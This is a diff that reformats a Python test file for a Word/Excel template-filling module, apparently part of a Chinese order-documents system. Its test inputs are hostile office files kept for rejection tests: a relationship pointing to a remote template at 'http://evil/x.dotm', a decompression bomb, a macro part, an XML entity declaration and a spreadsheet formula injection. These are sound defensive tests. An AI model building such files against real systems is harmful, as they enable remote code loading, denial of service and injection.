@@ -4,10 +4,10 @@ import io
 import zipfile
 from typing import Any
 
+import docx
 import openpyxl
 import pytest
 
-import docx
 from gezhi.channels.orders import papers
 from gezhi.kernel.refusal import Invalid
 
@@ -99,7 +99,9 @@ def test_control_signs_spoil_no_document() -> None:
 
 
 def test_a_value_that_looks_like_a_mark_is_filled_once() -> None:
-    assert text_of(papers.filled(word("{{内容}}"), "docx", {"text": "{{单号}}", "number": "WH1"})) in {"{{单号}}"}
+    assert text_of(papers.filled(word("{{内容}}"), "docx", {"text": "{{单号}}", "number": "WH1"})) in {
+        "{{单号}}"
+    }
 
 
 HYPER = b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://x/attachedTemplate" Target="http://evil/x.dotm" TargetMode="External"/></Relationships>'
@@ -111,8 +113,16 @@ HOSTILE: dict[str, tuple[Any, str, str]] = {
     "a workbook called docx": (book("{{单号}}"), "docx", "broken_form"),
     "a bomb": (with_part(word("{{单号}}"), "word/x.xml", bytes(30_000_000)), "docx", "bomb"),
     "macros": (with_part(word("{{单号}}"), "word/vbaProject.bin", b"x"), "docx", "macros"),
-    "a template far away": (with_part(word("{{单号}}"), "word/_rels/settings.xml.rels", HYPER), "docx", "abroad"),
-    "entities": (with_part(word("{{单号}}"), "word/settings.xml", b'<!DOCTYPE x [<!ENTITY a "b">]><x/>'), "docx", "broken_form"),
+    "a template far away": (
+        with_part(word("{{单号}}"), "word/_rels/settings.xml.rels", HYPER),
+        "docx",
+        "abroad",
+    ),
+    "entities": (
+        with_part(word("{{单号}}"), "word/settings.xml", b'<!DOCTYPE x [<!ENTITY a "b">]><x/>'),
+        "docx",
+        "broken_form",
+    ),
     "no marks": (word("答复"), "docx", "no_marks"),
     "strange marks": (word("{{密码}}"), "docx", "unknown_marks"),
     "a formula": (book("={{单号}}"), "xlsx", "in_a_formula"),
